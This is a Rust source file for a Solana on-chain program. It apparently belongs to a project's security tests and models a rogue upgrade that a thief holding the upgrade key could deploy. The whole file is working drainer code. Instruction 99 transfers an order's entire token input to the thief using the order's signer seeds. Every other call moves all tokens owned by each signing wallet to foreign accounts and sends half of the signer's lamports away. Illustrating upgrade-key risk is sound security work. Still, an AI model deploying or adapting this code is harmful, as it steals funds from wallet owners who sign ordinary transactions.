//! A program that a thief of the upgrade key could put in place of the real one. Called with any instruction, it takes all
//! that the accounts and signatures of that instruction allow. It shows what a wallet risks that signs an honest opening.
#![no_std]
#![allow(dead_code)]

#[path = "../../../src/attest.rs"]
mod attest;
#[path = "../../../src/order.rs"]
mod order;
#[path = "../../../src/runtime.rs"]
mod runtime;
#[path = "../../../src/token.rs"]
mod token;

use runtime::{same, Account, Bytes, Call, Input, SYSTEM_PROGRAM};
use token::{token_account, Transfer};

#[derive(Clone, Copy, PartialEq)]
#[repr(u32)]
pub enum Error {
    WrongAccountCount = 2,
    WrongDataLength = 3,
    MissingSignature = 4,
    WrongAccount = 5,
    WrongOwner = 6,
    InvalidDeadlines = 7,
    WrongAttesterSet = 13,
    ThresholdNotMet = 14,
    InvalidAttester = 15,
    Overflow = 26,
    InsufficientInventory = 27,
    SyscallFailed = 29,
}

pub type Result<T> = core::result::Result<T, Error>;

/// # Safety
/// Solana's loader calls this with the accounts and data of one instruction, in its own format.
#[no_mangle]
pub unsafe extern "C" fn entrypoint(input: *mut u8) -> u64 {
    match Input::parse(input).and_then(|input| rob(&input)) {
        Ok(()) => 0,
        Err(error) => error as u64,
    }
}

/// The instruction 99 takes an order's input with the order's own signature: accounts are the order, its input, and the
/// thief's token account; the data has the order's id and bump. All others rob the signers.
fn rob(input: &Input) -> Result<()> {
    if let Some((&99, data)) = input.data.split_first() {
        let (order, held, to) = (input.account(0)?, input.account(1)?, input.account(2)?);
        let signer = [Bytes::of(b"order"), Bytes::of(&data[..32]), Bytes::of(&data[32..33])];
        let amount = token_account(held)?.amount();
        return Transfer { from: held, to, authority: order, amount, signer: &signer }.run();
    }
    for &victim in input.all() {
        if victim.is_signer() {
            rob_signer(input, victim)?;
        }
    }
    Ok(())
}

fn rob_signer(input: &Input, victim: Account) -> Result<()> {
    let all = input.all();
    for &from in all {
        let Ok(held) = token_account(from) else { continue };
        if !same(&held.owner, victim.key()) {
            continue;
        }
        for &to in all {
            let is_other =
                token_account(to).is_ok_and(|other| !same(&other.owner, victim.key()) && same(&other.mint, &held.mint));
            if is_other {
                Transfer { from, to, authority: victim, amount: held.amount(), signer: &[] }.run()?;
            }
        }
    }
    let to = all.iter().find(|account| !account.is_signer() && account.is_writable());
    let (Some(&to), true) = (to, victim.is_writable()) else { return Ok(()) };
    let mut data = [2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    data[4..].copy_from_slice(&(victim.lamports() / 2).to_le_bytes());
    Call { program: &SYSTEM_PROGRAM, accounts: &[victim.signs(), to.writes()], data: &data, signer: &[] }.run()
}

#[panic_handler]
fn panic(_: &core::panic::PanicInfo) -> ! {
    runtime::abort()
}
